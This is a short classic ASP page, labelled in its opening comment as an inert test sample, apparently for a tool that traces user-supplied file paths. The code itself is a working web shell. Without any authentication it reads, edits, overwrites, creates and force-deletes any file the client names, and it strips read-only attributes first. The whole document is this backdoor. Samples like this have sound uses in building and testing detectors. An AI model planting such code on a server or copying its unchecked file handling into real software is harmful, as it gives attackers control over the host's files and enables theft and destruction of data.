<%
' Inert test sample: a file manager that edits, saves, deletes and unlocks any file the client
' names; the path passes two variables and two helper routines before it reaches the objects.
On Error Resume Next
Dim act, target, newTarget, body, enc

Function ReadAny(ByVal file, ByVal charset)
    Dim st
    Set st = Server.CreateObject("ADODB.Stream")
    With st
        .Type = 2 : .Mode = 3 : .Open
        .LoadFromFile file
        .Charset = charset
        ReadAny = .ReadText
        .Close
    End With
End Function

Sub StoreText(ByVal text, ByVal file, ByVal charset)
    Dim st
    Set st = Server.CreateObject("ADODB.Stream")
    With st
        .Type = 2 : .Mode = 3 : .Open
        .Charset = charset
        .WriteText = text
        .SaveToFile file, 2
        .Close
    End With
End Sub

Function Keep(name, text, charset)
    StoreText text, name, charset
End Function

Sub Unlock(p)
    Dim fs, f
    Set fs = Server.CreateObject("Scripting.FileSystemObject")
    Set f = fs.GetFile(p)
    f.Attributes = 0
End Sub

act = Request.QueryString("a")
enc = Request("cs")
If enc = "" Then enc = "utf-8"
Select Case act
Case "save"
    target = Request.Form("file")
    newTarget = Request.Form("saveas")
    If newTarget <> "" Then target = newTarget
    body = Request.Form("body")
    Unlock target
    Call Keep(target, body, enc)
    Response.Write "saved"
Case "del"
    target = Request.QueryString("file")
    Rem the helper removes read-only first
    Unlock(target) : Server.CreateObject("Scripting.FileSystemObject").DeleteFile target, True
Case Else
    target = Request.QueryString("file")
%>
<form method="post" action="?a=save"><input name="file" value="<%=Server.HTMLEncode(target)%>">
<textarea name="body"><%=Server.HTMLEncode(ReadAny(target, enc))%></textarea><input type="submit"></form>
<%
End Select
%>
